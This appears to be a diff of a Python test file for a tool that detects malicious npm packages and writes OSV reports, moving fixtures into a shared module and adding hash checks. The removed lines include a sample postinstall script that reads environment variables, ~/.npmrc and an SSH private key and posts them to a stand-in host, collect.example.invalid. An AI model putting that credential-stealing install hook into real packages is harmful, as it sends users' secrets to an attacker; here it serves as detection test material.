@@ -5,81 +5,14 @@ import json
 import os
 import re
 
+from reportlib import bad, complaints, GOOD, SECRETS, SETUP
 from tap import done, ok, package, put, Run, scratch, tgz_of
 
 TIME = ("--time", "2026-01-02T03:04:05Z")
-GOOD = {"package.json": package("fine"), "index.js": "module.exports = 1;\n"}
-# Inert: the hosts do not exist, and the first line ends the script.
-SETUP = """if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
-const fs = require('fs'), os = require('os'), https = require('https'), path = require('path');
-const loot = {
-  env: process.env,
-  npmrc: fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'),
-  key: fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'),
-};
-fetch('https://me:hunter2@collect.example.invalid/in/9f8Zq0Lk3Pw7Xr2Vt5Yb1Nc6?key=1', {
-  method: 'POST', body: JSON.stringify(loot), headers: { authorization: 'Bearer npm_9f8Zq0Lk3Pw7Xr2Vt5Yb1Nc6Md4Sg8AhXy12' },
-});
-"""
-SECRETS = ("9f8Zq0Lk3Pw7Xr2Vt5Yb1Nc6", "hunter2")
-
-
-def bad(name="evil", version="1.0.0", **more):
-    return {"package.json": package(name, version, scripts={"postinstall": "node setup.js"}, **more),
-            "setup.js": SETUP, "index.js": "module.exports = {};\n"}
 
 
 def report(*args, **kw):
     return Run("report", "osv", *TIME, *args, **kw)
-
-
-def domain_ok(d):
-    return re.fullmatch(r"[A-Za-z0-9_.-]{1,255}", d) and all(0 < len(x) <= 63 for x in d.split("."))
-
-
-def complaints(doc):
-    """What OpenSSF's validation and its guide for contributors would say: docs/schema_additions.md, CONTRIBUTING.md,
-    internal/report/validate.go and indicators.go there."""
-    bad = []
-
-    def want(cond, what):
-        if not cond:
-            bad.append(what)
-
-    want(not {"id", "summary", "withdrawn", "severity"} & set(doc), "fields that are given there")
-    want(set(doc) <= {"schema_version", "modified", "published", "details", "affected", "references", "credits",
-                      "database_specific"}, "unknown fields")
-    want(re.fullmatch(r"1\.\d+\.\d+", doc.get("schema_version", "")), "schema_version")
-    for key in ("modified", "published"):
-        want(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", doc.get(key, "")), key)
-    want(doc.get("details", "").strip(), "details")
-    want(len(doc.get("affected", [])) == 1, "one affected")
-    for a in doc.get("affected", []):
-        want(set(a) <= {"package", "ranges", "versions", "database_specific"}, "fields of affected")
-        want(a["package"].get("ecosystem") == "npm" and a["package"].get("name"), "package")
-        want(a.get("versions") or a.get("ranges"), "versions or ranges")
-        want(len(set(a.get("versions", []))) == len(a.get("versions", [])), "versions are unique")
-        for r in a.get("ranges", []):
-            want(r["type"] == "SEMVER" and any("introduced" in e for e in r["events"]), "range")
-            want(all(len(e) == 1 for e in r["events"]), "events")
-        ds = a.get("database_specific", {})
-        want(set(ds) <= {"cwes", "indicators", "iocs", "ghsa"}, "keys of affected.database_specific")
-        want(all(isinstance(v, (dict, list)) for v in ds.values()), "scalars are stripped")
-        for p in ds.get("indicators", {}).get("package_integrity", []):
-            want(p["filename"].endswith(".tgz") and len(base64.b64decode(p["hashes"]["sha512_sri"][7:])) == 64, "integrity")
-        for f in ds.get("indicators", {}).get("evidence_files", []):
-            want(f["path"] and f["evidence"] and all(e["rule"] and e["offset"] >= 0 for e in f["evidence"]), "evidence")
-    ds = doc.get("database_specific", {})
-    want(set(ds) <= {"malicious-packages-origins", "iocs"}, "keys of database_specific")
-    iocs = ds.get("iocs", {})
-    want(set(iocs) <= {"domains", "ips", "urls", "files"}, "keys of iocs")
-    want(all(domain_ok(d) for d in iocs.get("domains", [])), "domains")
-    want(all(re.fullmatch(r"hxxps?://[A-Za-z0-9_.-]+(:\d+)?/[^\s?#]*", u) for u in iocs.get("urls", [])), "urls")
-    for c in doc.get("credits", []):
-        want(c["name"] and c["type"] == "FINDER" and isinstance(c.get("contact", []), list), "credits")
-    for r in doc.get("references", []):
-        want(r["type"] == "PACKAGE" and r["url"].startswith("https://"), "references")
-    return bad
 
 
 def one_package(d):
@@ -91,11 +24,13 @@ def one_package(d):
     ok(a["package"]["name"] == "evil" and a["versions"] == ["1.0.0"], "of its name and version", doc)
     ok(doc["modified"] == TIME[1] and doc["published"] == TIME[1], "the time is the one that was given", doc)
     sri = "sha512-" + base64.b64encode(hashlib.sha512(open(tgz, "rb").read()).digest()).decode()
+    sha1 = hashlib.sha1(open(tgz, "rb").read()).hexdigest()
     ok(a["database_specific"]["indicators"]["package_integrity"] ==
-       [{"filename": "evil-1.0.0.tgz", "hashes": {"sha512_sri": sri}}], "the archive's hash", a)
+       [{"filename": "evil-1.0.0.tgz", "hashes": {"sha1": sha1, "sha512_sri": sri}}], "the archive's hashes", a)
     files = {f["path"]: f for f in a["database_specific"]["indicators"]["evidence_files"]}
     ok("setup.js" in files and any(SETUP[e["offset"]:].startswith("fetch") for e in files["setup.js"]["evidence"]),
        "the evidence says where, in bytes", files)
+    ok(files["setup.js"].get("sha256") == hashlib.sha256(SETUP.encode()).hexdigest(), "in which file", files)
     ok("collect.example.invalid" in doc["database_specific"]["iocs"]["domains"], "the host is an indicator", doc)
     ok(any(u.startswith("hxxps://collect.example.invalid/in/") for u in doc["database_specific"]["iocs"].get("urls", [])),
        "so is the address", doc["database_specific"])
